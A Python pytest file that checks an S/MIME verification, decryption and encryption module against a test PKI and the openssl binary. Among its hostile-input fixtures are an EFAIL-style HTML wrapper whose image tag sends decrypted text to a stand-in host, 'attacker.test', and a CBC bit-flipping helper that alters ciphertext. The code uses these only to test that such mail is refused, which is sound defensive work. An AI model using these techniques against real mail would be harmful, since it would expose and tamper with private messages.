"""crypto.smime: whole-message S/MIME verification, decryption and encryption, with inputs
made and outputs checked by the real `openssl` binary; EFAIL fixtures and hostile input."""

from __future__ import annotations

import base64
import datetime
import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from asn1crypto import cms
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from bridge.crypto.results import SigResult
from bridge.crypto.smime import (
    SmimeRefused,
    decrypt_smime,
    encrypt_smime,
    is_encrypted,
    is_signed,
    verify_smime,
)

OPENSSL = shutil.which("openssl")
pytestmark = pytest.mark.skipif(OPENSSL is None, reason="the openssl binary is not installed")
NOW = datetime.datetime.now(datetime.timezone.utc)
ANNA = "anna@borger.dp2.test"
SECRET = b"Hemmeligt CPR 010203-1234"
BODY = (b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        b"Hej kommune,\r\n" + SECRET + b"\r\nmvh Anna\r\n")
OUTER = f"From: Anna <{ANNA}>\r\nTo: post@kommune.dp2.test\r\nSubject: Ansøgning\r\n".encode()
NEVER_REVOKED = lambda issuer, serial: False  # noqa: E731


# --- a small PKI: a tenant CA, an OCES3-like root -> intermediate, another CA ------------

@dataclass
class Party:
    cert: x509.Certificate
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
    cert_path: Path
    key_path: Path

    @property
    def pem(self) -> bytes:
        return self.cert.public_bytes(serialization.Encoding.PEM)


def _name(cn: str, email: str | None = None) -> x509.Name:
    attrs = [x509.NameAttribute(NameOID.COMMON_NAME, cn)]
    if email:
        attrs.append(x509.NameAttribute(NameOID.EMAIL_ADDRESS, email))
    return x509.Name(attrs)


def _issue(d: Path, slug: str, cn: str, issuer: Party | None, *, ca: bool = False,
           email: str | None = None, start: datetime.datetime = NOW - datetime.timedelta(days=1),
           days: int = 30, path_length: int | None = None, cert_sign: bool = True,
           eku: x509.ObjectIdentifier = ExtendedKeyUsageOID.EMAIL_PROTECTION,
           signing: bool = True, san: bool = True) -> Party:
    key = ec.generate_private_key(ec.SECP256R1()) if ca else rsa.generate_private_key(65537, 2048)
    builder = (x509.CertificateBuilder().subject_name(_name(cn, None if san else email))
               .issuer_name(issuer.cert.subject if issuer else _name(cn))
               .public_key(key.public_key()).serial_number(x509.random_serial_number())
               .not_valid_before(start).not_valid_after(start + datetime.timedelta(days=days))
               .add_extension(x509.BasicConstraints(ca=ca, path_length=path_length if ca else None),
                              critical=True))
    if ca:
        usage = dict(digital_signature=False, key_encipherment=False, key_cert_sign=cert_sign,
                     crl_sign=True)
    else:
        usage = dict(digital_signature=signing, key_encipherment=True, key_cert_sign=False,
                     crl_sign=False)
        builder = builder.add_extension(x509.ExtendedKeyUsage([eku]), critical=False)
        if san:
            builder = builder.add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]),
                                            critical=False)
    builder = builder.add_extension(x509.KeyUsage(content_commitment=False, data_encipherment=False,
                                                  key_agreement=False, encipher_only=False,
                                                  decipher_only=False, **usage), critical=True)
    cert = builder.sign(issuer.key if issuer else key, hashes.SHA256())
    cert_path, key_path = d / f"{slug}.pem", d / f"{slug}.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                           serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return Party(cert, key, cert_path, key_path)


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Party]:
    d = tmp_path_factory.mktemp("smime-pki")
    past = NOW - datetime.timedelta(days=60)
    p: dict[str, Party] = {}
    p["ca"] = _issue(d, "ca", "Kommune CA", None, ca=True, days=3650, path_length=0)
    p["root"] = _issue(d, "root", "OCES3-like Root", None, ca=True, days=3650)
    p["inter"] = _issue(d, "inter", "OCES3-like Issuing CA", p["root"], ca=True, days=3650,
                        path_length=0)
    p["nosign"] = _issue(d, "nosign", "CA without keyCertSign", p["root"], ca=True, cert_sign=False)
    p["old"] = _issue(d, "old", "Expired CA", p["root"], ca=True, start=past, days=30)
    p["other"] = _issue(d, "other", "Another CA", None, ca=True, days=3650)
    p["sub"] = _issue(d, "sub", "Sub-CA below a pathlen 0 CA", p["ca"], ca=True)
    for i, up in ((1, "root"), (2, "i1"), (3, "i2")):
        p[f"i{i}"] = _issue(d, f"i{i}", f"Level {i} CA", p[up], ca=True)
    for slug, cn, issuer, kw in [
            ("anna", "Anna", "ca", {}), ("anna2", "Anna again", "ca", {}),
            ("bob", "Bob", "ca", {"email": "bob@x.dp2.test"}),
            ("expired", "Anna (expired)", "ca", {"start": past}),
            ("foreign", "Anna elsewhere", "other", {}), ("oces", "Anna OCES", "inter", {}),
            ("badchain", "Anna bad chain", "nosign", {}), ("underold", "Anna", "old", {}),
            ("undersub", "Anna", "sub", {}), ("deep4", "Anna deep", "i2", {}),
            ("deep5", "Anna deeper", "i3", {}),
            ("subject", "Anna (subject emailAddress)", "ca", {"san": False}),
            ("server", "Anna (serverAuth)", "ca", {"eku": ExtendedKeyUsageOID.SERVER_AUTH}),
            ("nosig", "Anna (encryption only)", "ca", {"signing": False}),
            ("bridge", "Kommune bridge", "ca", {"email": "post@kommune.dp2.test"})]:
        p[slug] = _issue(d, slug, cn, p[issuer], **{"email": ANNA, **kw})
    return p


def bundle(*parties: Party) -> Path:
    path = parties[0].cert_path.parent / ("bundle-" + "-".join(p.cert_path.stem for p in parties))
    path.write_bytes(b"".join(p.pem for p in parties))
    return path


def openssl(*args: str | Path, data: bytes = b"") -> bytes:
    done = subprocess.run([OPENSSL, *map(str, args)], input=data, capture_output=True,
                          check=False, timeout=60)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return done.stdout


def crlf(data: bytes) -> bytes:
    return re.sub(rb"\r?\n", b"\r\n", data)


def sign(*signers: Party, opaque: bool = False, certfile: Path | None = None,
         body: bytes = BODY) -> bytes:
    """`openssl smime -sign` output with the outer header prepended, as a mail client sends."""
    args: list[str | Path] = ["smime", "-sign"]
    for s in signers:
        args += ["-signer", s.cert_path, "-inkey", s.key_path]
    if opaque:
        args.append("-nodetach")
    if certfile:
        args += ["-certfile", certfile]
    return OUTER + crlf(openssl(*args, data=body))


def verify(raw: bytes, pki: dict[str, Party], *, trust: tuple[str, ...] = ("ca", "root"),
           is_revoked=NEVER_REVOKED, frm: str = ANNA,
           now: datetime.datetime = NOW) -> SigResult | None:
    return verify_smime(raw, from_address=frm, trust_pems=[pki[t].pem for t in trust],
                        is_revoked=is_revoked, now=now)


# --- verification ------------------------------------------------------------------------

def test_detached_signature_by_anna_passes(pki: dict[str, Party]) -> None:
    raw = sign(pki["anna"])
    assert is_signed(raw) and not is_encrypted(raw)
    assert verify(raw, pki) == SigResult("smime", "pass", ANNA)
    assert verify(raw, pki, frm=ANNA.upper()) == SigResult("smime", "pass", ANNA)


def test_opaque_signature_passes(pki: dict[str, Party]) -> None:
    raw = sign(pki["anna"], opaque=True)
    assert b"smime-type=signed-data" in raw and is_signed(raw)
    assert verify(raw, pki) == SigResult("smime", "pass", ANNA)


def test_non_x_protocol_names_pass_too(pki: dict[str, Party]) -> None:
    raw = sign(pki["anna"]).replace(b"application/x-pkcs7-signature", b"application/pkcs7-signature")
    assert b"x-pkcs7" not in raw
    assert verify(raw, pki) == SigResult("smime", "pass", ANNA)


def test_chain_through_an_intermediate_in_the_cms_passes(pki: dict[str, Party]) -> None:
    raw = sign(pki["oces"], certfile=bundle(pki["inter"]))
    assert verify(raw, pki, trust=("root",)) == SigResult("smime", "pass", ANNA)
    missing = verify(sign(pki["oces"]), pki, trust=("root",))
    assert missing.status == "fail" and "not issued by a CA this bridge trusts" in missing.reason


def test_an_intermediate_that_may_not_sign_certificates_fails(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["badchain"], certfile=bundle(pki["nosign"])), pki, trust=("root",))
    assert got.status == "fail" and "may not sign certificates" in got.reason


def test_paths_are_at_most_four_certificates_long(pki: dict[str, Party]) -> None:
    four = sign(pki["deep4"], certfile=bundle(pki["i2"], pki["i1"]))
    assert verify(four, pki, trust=("root",)) == SigResult("smime", "pass", ANNA)
    five = verify(sign(pki["deep5"], certfile=bundle(pki["i3"], pki["i2"], pki["i1"])), pki,
                  trust=("root",))
    assert five.status == "fail" and five.reason.startswith("not issued by a CA this bridge trusts")


def test_path_length_constraint_and_expired_intermediate_fail(pki: dict[str, Party]) -> None:
    below_pathlen0 = verify(sign(pki["undersub"], certfile=bundle(pki["sub"])), pki)
    assert below_pathlen0.status == "fail" and "pathLenConstraint 0" in below_pathlen0.reason
    old = verify(sign(pki["underold"], certfile=bundle(pki["old"])), pki, trust=("root",))
    assert old.status == "fail" and "the CA certificate CN=Expired CA expired on" in old.reason


def test_signer_address_may_be_the_subject_email_address(pki: dict[str, Party]) -> None:
    assert verify(sign(pki["subject"]), pki) == SigResult("smime", "pass", ANNA)


@pytest.mark.parametrize("slug,reason", [("server", "not for e-mail protection"),
                                         ("nosig", "may not be used for signatures")])
def test_signer_key_usage_must_allow_email_signatures(pki: dict[str, Party], slug: str,
                                                      reason: str) -> None:
    got = verify(sign(pki[slug]), pki)
    assert got.status == "fail" and reason in got.reason


def test_a_signing_time_in_the_future_fails(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["anna"]), pki, now=NOW - datetime.timedelta(hours=2))
    assert got.status == "fail" and "lies in the future" in got.reason


def test_one_changed_body_byte_fails(pki: dict[str, Party]) -> None:
    raw = sign(pki["anna"])
    tampered = raw.replace(b"mvh Anna", b"mvh Anne")
    assert tampered != raw
    got = verify(tampered, pki)
    assert got == SigResult("smime", "fail", None, "the message was changed after it was signed")


def test_changed_opaque_content_fails(pki: dict[str, Party]) -> None:
    raw = sign(pki["anna"], opaque=True)
    header, body = raw.split(b"\r\n\r\n", 1)
    der = base64.b64decode(body).replace(b"mvh Anna", b"mvh Anne")
    got = verify(header + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n"), pki)
    assert got.status == "fail" and got.reason == "the message was changed after it was signed"


def test_certificate_from_another_ca_fails(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["foreign"]), pki)
    assert got.status == "fail" and got.signer == ANNA
    assert got.reason.startswith("not issued by a CA this bridge trusts")


def test_expired_certificate_fails(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["expired"]), pki)
    end = pki["expired"].cert.not_valid_after_utc.isoformat()
    assert got.status == "fail" and f"certificate expired on {end}" in got.reason


def test_revoked_certificate_fails_and_is_asked_by_issuer_and_serial(
        pki: dict[str, Party]) -> None:
    asked: list[tuple[str, str]] = []

    def revoked(issuer: str, serial: str) -> bool:
        asked.append((issuer, serial))
        return serial == format(pki["anna"].cert.serial_number, "x")

    got = verify(sign(pki["anna"]), pki, is_revoked=revoked)
    assert got.status == "fail" and "certificate revoked" in got.reason and got.signer == ANNA
    ca_fp = pki["ca"].cert.fingerprint(hashes.SHA256()).hex()
    assert asked == [(ca_fp, format(pki["anna"].cert.serial_number, "x"))]


def test_certificate_for_another_address_fails(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["bob"]), pki)
    assert got.status == "fail" and got.signer == "bob@x.dp2.test"
    assert got.reason.startswith("signed by a certificate for bob@x.dp2.test, not the sender")


def test_two_signers_fail(pki: dict[str, Party]) -> None:
    got = verify(sign(pki["anna"], pki["anna2"]), pki)
    assert got.status == "fail" and got.reason.startswith("more than one signer")


def test_unsigned_and_pgp_messages_are_not_smime_signed(pki: dict[str, Party]) -> None:
    plain = OUTER + BODY
    assert verify(plain, pki) is None and not is_signed(plain)
    pgp = OUTER + (b'Content-Type: multipart/signed; protocol="application/pgp-signature"; '
                   b'boundary="b"\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n')
    assert verify(pgp, pki) is None


@pytest.mark.parametrize("damage", ["truncated-base64", "garbage-der", "wrong-asn1",
                                    "no-signature-part", "opaque-garbage"])
def test_hostile_signed_input_fails_without_raising(pki: dict[str, Party], damage: str) -> None:
    raw = sign(pki["anna"])
    boundary = re.search(rb'boundary="([^"]+)"', raw).group(1)
    start = raw.index(b'filename="smime.p7s"\r\n\r\n') + 24
    end = raw.index(b"\r\n--" + boundary + b"--")
    head, sig, tail = raw[:start], raw[start:end], raw[end:]
    if damage == "truncated-base64":
        raw = head + sig[:101] + tail
    elif damage == "garbage-der":
        raw = head + base64.b64encode(b"\x30\x82\x05" + b"A" * 40) + tail
    elif damage == "wrong-asn1":
        wrong = cms.ContentInfo({"content_type": "data", "content": b"hello"}).dump()
        raw = head + base64.b64encode(wrong) + tail
    elif damage == "no-signature-part":
        raw = raw[:raw.index(b"\r\n--" + boundary, raw.index(b"mvh Anna"))] + tail
    else:
        raw = OUTER + (b"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; "
                       b"smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n")
    got = verify(raw, pki)
    assert got is not None and got.status == "fail" and got.reason


# --- decryption --------------------------------------------------------------------------

def encrypt_with_openssl(entity: bytes, to: Party, cipher: str = "-aes256") -> bytes:
    out = openssl("smime", "-encrypt", cipher, "-from", ANNA, "-to", "post@kommune.dp2.test",
                  "-subject", "Ansøgning", to.cert_path, data=entity)
    return crlf(out)


def decrypt(raw: bytes, pki: dict[str, Party], **kw: bool) -> bytes:
    return decrypt_smime(raw, pki["bridge"].pem, pki["bridge"].key_path.read_bytes(), **kw)


def refused(raw: bytes, pki: dict[str, Party], **kw: bool) -> SmimeRefused:
    with pytest.raises(SmimeRefused) as exc:
        decrypt(raw, pki, **kw)
    err = exc.value
    for text in (str(err), err.public, err.reason_da, repr(err), repr(err.__context__),
                 repr(err.__cause__)):
        assert SECRET not in text.encode() and b"Hej kommune" not in text.encode()
    return err


def test_aes256_message_to_the_bridge_decrypts_to_the_inner_entity(pki: dict[str, Party]) -> None:
    raw = encrypt_with_openssl(BODY, pki["bridge"])
    assert is_encrypted(raw) and not is_signed(raw)
    out = decrypt(raw, pki)
    outer = b"".join(line + b"\r\n" for line in raw.split(b"\r\n\r\n")[0].split(b"\r\n")
                     if not line.lower().startswith((b"content-", b"mime-version")))
    assert out == outer + b"MIME-Version: 1.0\r\n" + BODY
    assert out.startswith(b"To: post@kommune.dp2.test\r\nFrom: " + ANNA.encode())


def test_3des_is_refused_with_5_6_3(pki: dict[str, Party]) -> None:
    err = refused(encrypt_with_openssl(BODY, pki["bridge"], "-des3"), pki)
    assert err.enhanced == "5.6.3" and not err.temporary
    assert err.public == ("the message is encrypted with 3DES, which this bridge does not "
                          "accept; use AES-256")


def test_message_for_someone_else_is_refused_with_5_7_5(pki: dict[str, Party]) -> None:
    err = refused(encrypt_with_openssl(BODY, pki["anna"]), pki)
    assert err.enhanced == "5.7.5" and err.public.startswith("not encrypted for this bridge")


def test_aes_gcm_and_rsa_oaep_are_refused_with_5_6_3(pki: dict[str, Party]) -> None:
    gcm = crlf(openssl("cms", "-encrypt", "-aes-256-gcm", pki["bridge"].cert_path, data=BODY))
    assert is_encrypted(gcm)
    err = refused(OUTER + gcm, pki)
    assert err.enhanced == "5.6.3" and "AES-GCM" in err.public
    oaep = crlf(openssl("cms", "-encrypt", "-aes256", "-recip", pki["bridge"].cert_path,
                        "-keyopt", "rsa_padding_mode:oaep", data=BODY))
    err = refused(OUTER + oaep, pki)
    assert err.enhanced == "5.6.3" and "RSA-OAEP" in err.public


def test_p7m_without_smime_type_is_encrypted_and_a_plain_message_is_not(
        pki: dict[str, Party]) -> None:
    raw = re.sub(rb"Content-Type: [^\r]*", b'Content-Type: application/x-pkcs7-mime; name="smime.p7m"',
                 encrypt_with_openssl(BODY, pki["bridge"]))
    assert b"smime-type" not in raw and is_encrypted(raw)
    assert decrypt(raw, pki).endswith(BODY)
    plain = OUTER + BODY
    assert not is_encrypted(plain) and refused(plain, pki).enhanced == "5.6.0"


@pytest.mark.parametrize("disguise", [False, True])
def test_efail_encrypted_part_wrapped_in_html_is_refused(pki: dict[str, Party],
                                                         disguise: bool) -> None:
    encrypted = encrypt_with_openssl(BODY, pki["bridge"])
    part = encrypted[encrypted.index(b"MIME-Version"):]
    part = part[part.index(b"\r\n") + 2:]                  # the Content-* fields and the body
    if disguise:                                           # a .p7m named octet-stream
        part = re.sub(rb"Content-Type: [^\r]*", b"Content-Type: application/octet-stream", part)
    raw = (OUTER + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"E\"\r\n\r\n"
           b"--E\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.test/?\r\n"
           b"--E\r\n" + part + b"\r\n--E\r\nContent-Type: text/html\r\n\r\n\">\r\n--E--\r\n")
    assert not is_encrypted(raw)
    err = refused(raw, pki)
    assert err.enhanced == "5.6.1" and "whole message" in err.public


def cbc_flip(raw: bytes, plaintext_offset: int, mask: int) -> bytes:
    """A CBC gadget: XOR `mask` into one plaintext byte by changing the ciphertext block
    before it (which garbles that block's own plaintext)."""
    header, body = raw.split(b"\r\n\r\n", 1)
    info = cms.ContentInfo.load(base64.b64decode(body))
    eci = info["content"]["encrypted_content_info"]
    ciphertext = bytearray(eci["encrypted_content"].native)
    block, at = divmod(plaintext_offset, 16)
    ciphertext[(block - 1) * 16 + at] ^= mask
    eci["encrypted_content"] = bytes(ciphertext)
    return header + b"\r\n\r\n" + base64.encodebytes(info.dump(force=True)).replace(b"\n", b"\r\n")


def test_cbc_modified_body_is_never_released_when_a_signature_is_required(
        pki: dict[str, Party]) -> None:
    signed_entity = crlf(openssl("smime", "-sign", "-signer", pki["anna"].cert_path,
                                 "-inkey", pki["anna"].key_path, data=BODY))
    raw = encrypt_with_openssl(signed_entity, pki["bridge"])
    out = decrypt(raw, pki, require_signature=True)
    assert verify(out, pki) == SigResult("smime", "pass", ANNA)
    modified = cbc_flip(raw, signed_entity.index(b"010203"), 0x01)      # "010203" -> "110203"
    assert b"110203-1234" in decrypt(modified, pki)     # the gadget works without the check
    assert refused(modified, pki, require_signature=True).enhanced == "5.7.7"
    header_hit = cbc_flip(raw, signed_entity.index(b"pkcs7-signature"), 0x20)
    assert refused(header_hit, pki, require_signature=True).enhanced == "5.7.7"
    unsigned = encrypt_with_openssl(BODY, pki["bridge"])
    assert refused(unsigned, pki, require_signature=True).enhanced == "5.7.7"


@pytest.mark.parametrize("damage", ["truncated-base64", "wrong-asn1", "signed-not-enveloped",
                                    "last-block"])
def test_hostile_encrypted_input_is_refused(pki: dict[str, Party], damage: str) -> None:
    raw = encrypt_with_openssl(BODY, pki["bridge"])
    header, body = raw.split(b"\r\n\r\n", 1)
    if damage == "truncated-base64":
        body = body[:200] + b"A=B\r\n"
    elif damage == "wrong-asn1":
        body = base64.b64encode(b"\x30\x03\x02\x01\x01\x05\x00") + b"\r\n"
    elif damage == "signed-not-enveloped":
        body = sign(pki["anna"], opaque=True).split(b"\r\n\r\n", 1)[1]
    else:
        info = cms.ContentInfo.load(base64.b64decode(body))
        eci = info["content"]["encrypted_content_info"]
        ciphertext = bytearray(eci["encrypted_content"].native)
        ciphertext[-1] ^= 0xFF
        eci["encrypted_content"] = bytes(ciphertext)
        body = base64.encodebytes(info.dump(force=True)).replace(b"\n", b"\r\n")
    err = refused(header + b"\r\n\r\n" + body, pki)
    assert err.enhanced == "5.6.0" and err.public


# --- encryption --------------------------------------------------------------------------

def test_encrypted_for_anna_decrypts_with_openssl_to_the_exact_entity(
        pki: dict[str, Party]) -> None:
    raw = OUTER + b"MIME-Version: 1.0\r\n" + BODY
    out = encrypt_smime(raw, [pki["anna"].pem])
    assert is_encrypted(out) and b"\n" not in out.replace(b"\r\n", b"")
    header, body = out.split(b"\r\n\r\n", 1)
    assert header.startswith(OUTER) and SECRET not in out
    assert b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m" \
        in header
    assert max(len(line) for line in body.split(b"\r\n")) == 76
    info = cms.ContentInfo.load(base64.b64decode(body))
    algorithm = info["content"]["encrypted_content_info"]["content_encryption_algorithm"]
    assert algorithm["algorithm"].native == "aes256_cbc"
    plain = openssl("smime", "-decrypt", "-recip", pki["anna"].cert_path,
                    "-inkey", pki["anna"].key_path, data=out)
    assert plain == BODY
    back = decrypt_smime(out, pki["anna"].pem, pki["anna"].key_path.read_bytes())
    assert back == OUTER + b"MIME-Version: 1.0\r\n" + BODY


def test_a_message_without_content_fields_round_trips(pki: dict[str, Party]) -> None:
    raw = OUTER + b"\r\njust text\r\n"
    out = encrypt_smime(raw, [pki["anna"].pem, pki["bridge"].pem])
    assert openssl("smime", "-decrypt", "-recip", pki["anna"].cert_path,
                   "-inkey", pki["anna"].key_path, data=out) == b"\r\njust text\r\n"
    assert decrypt(out, pki) == OUTER + b"MIME-Version: 1.0\r\n\r\njust text\r\n"
